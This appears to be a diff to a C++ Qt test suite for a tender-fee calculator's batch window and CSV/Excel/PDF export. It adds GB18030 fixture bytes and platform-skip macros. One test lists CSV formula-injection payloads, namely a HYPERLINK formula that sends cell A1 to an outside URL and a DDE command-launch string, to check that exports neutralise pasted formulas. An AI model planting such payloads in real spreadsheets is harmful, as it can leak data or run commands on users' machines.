@@ -9,7 +9,6 @@
 #include <QMessageBox>
 #include <QProcess>
 #include <QPushButton>
-#include <QStringEncoder>
 #include <QTableView>
 #include <QTemporaryDir>
 #include <QTimer>
@@ -311,7 +310,11 @@ TEST_F(BatchTest, OpenReadsTheFilesSpreadsheetsWrite)
         {"bom.csv", "\xEF\xBB\xBF" + table.toUtf8(), 1},
         {"plain.csv", table.toUtf8(), 2},
         {"tabs.txt", QString(table).replace(',', '\t').toUtf8(), 3},
-        {"gb18030.csv", QStringEncoder("GB18030").encode(table), 4},
+        // the same table in GB18030, as a Chinese spreadsheet program writes it
+        {"gb18030.csv",
+         "\xB1\xEA\xB6\xCE,\xD6\xD0\xB1\xEA\xBD\xF0\xB6\xEE,\xB7\xFE\xCE\xF1\xC0\xE0\xD0\xCD\n"
+         "\xD2\xBB\xB1\xEA\xB6\xCE,6000,\xB9\xA4\xB3\xCC\xD5\xD0\xB1\xEA\n",
+         4},
         {"picture.png", QByteArray("\x89PNG\r\n\x1A\n\0\0\0\rIHDR", 16), 4},
     };
     for (const auto& file : files) {
@@ -335,6 +338,7 @@ class BatchSystemTest : public BatchTest {};
 
 TEST_F(BatchSystemTest, TheTableReadsBackFromExcelAndCsv)
 {
+    KELVORA_READ_BACK_ON_LINUX("Python with openpyxl");
     QTemporaryDir folder;
     const std::vector<Cells> table = ParseTable(CalculateRows("tender", kTenderRows));
     const auto formats = ui::FormatsOf(ColumnsOf(TenderFeeCalculator()));
@@ -386,6 +390,7 @@ with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
 // number, shown with two decimals where every figure of the column has two.
 TEST_F(BatchSystemTest, FigureColumnsAreNumbersWithTheirDecimals)
 {
+    KELVORA_READ_BACK_ON_LINUX("Python with openpyxl");
     const struct {
         const char* calculator;
         const char* rows;
@@ -423,6 +428,7 @@ print(" ".join(str(c.value) for c in cells) + "|" + " ".join(sorted({c.number_fo
 // apostrophe before it; the figures the program wrote stay as they are.
 TEST_F(BatchSystemTest, ACsvNeverRunsWhatWasPasted)
 {
+    KELVORA_READ_BACK_ON_LINUX("Python");
     const char* const attacks[] = {
         "=HYPERLINK(\"http://example.org/\"&A1,\"点击\")",
         "+cmd|' /C calc'!A0",
@@ -461,6 +467,7 @@ with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
 
 TEST_F(BatchSystemTest, AnExportThatCannotBeWrittenKeepsTheOldFile)
 {
+    KELVORA_POSIX_ONLY("a nearly full disk is a per-process file size limit");
     QTemporaryDir folder;
     const std::vector<Cells> table = ParseTable(CalculateRows("tender", kTenderRows));
     const auto formats = ui::FormatsOf(ColumnsOf(TenderFeeCalculator()));
@@ -547,6 +554,7 @@ TEST_F(BatchTest, AnExportThatWouldLoseDataOrIsStoppedKeepsTheOldFile)
 
 TEST_F(BatchSystemTest, TheBatchSheetHoldsEveryRowTheTotalAndItsCapitals)
 {
+    KELVORA_READ_BACK_ON_LINUX("pdftotext");
     BatchWindow* batch = Open(0);
     QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
     batch->Paste();
@@ -573,6 +581,7 @@ TEST_F(BatchSystemTest, TheBatchSheetHoldsEveryRowTheTotalAndItsCapitals)
 // for a page cut with a mark, markup shown as typed, figures whole.
 TEST_F(BatchSystemTest, ALongBatchSheetRepeatsItsHeadAndShowsPastedTextAsText)
 {
+    KELVORA_READ_BACK_ON_LINUX("pdftotext");
     BatchWindow* batch = Open(0);
     std::string rows = "标段\t中标金额\t服务类型\r\n";
     for (int lot = 1; lot <= 80; ++lot) {
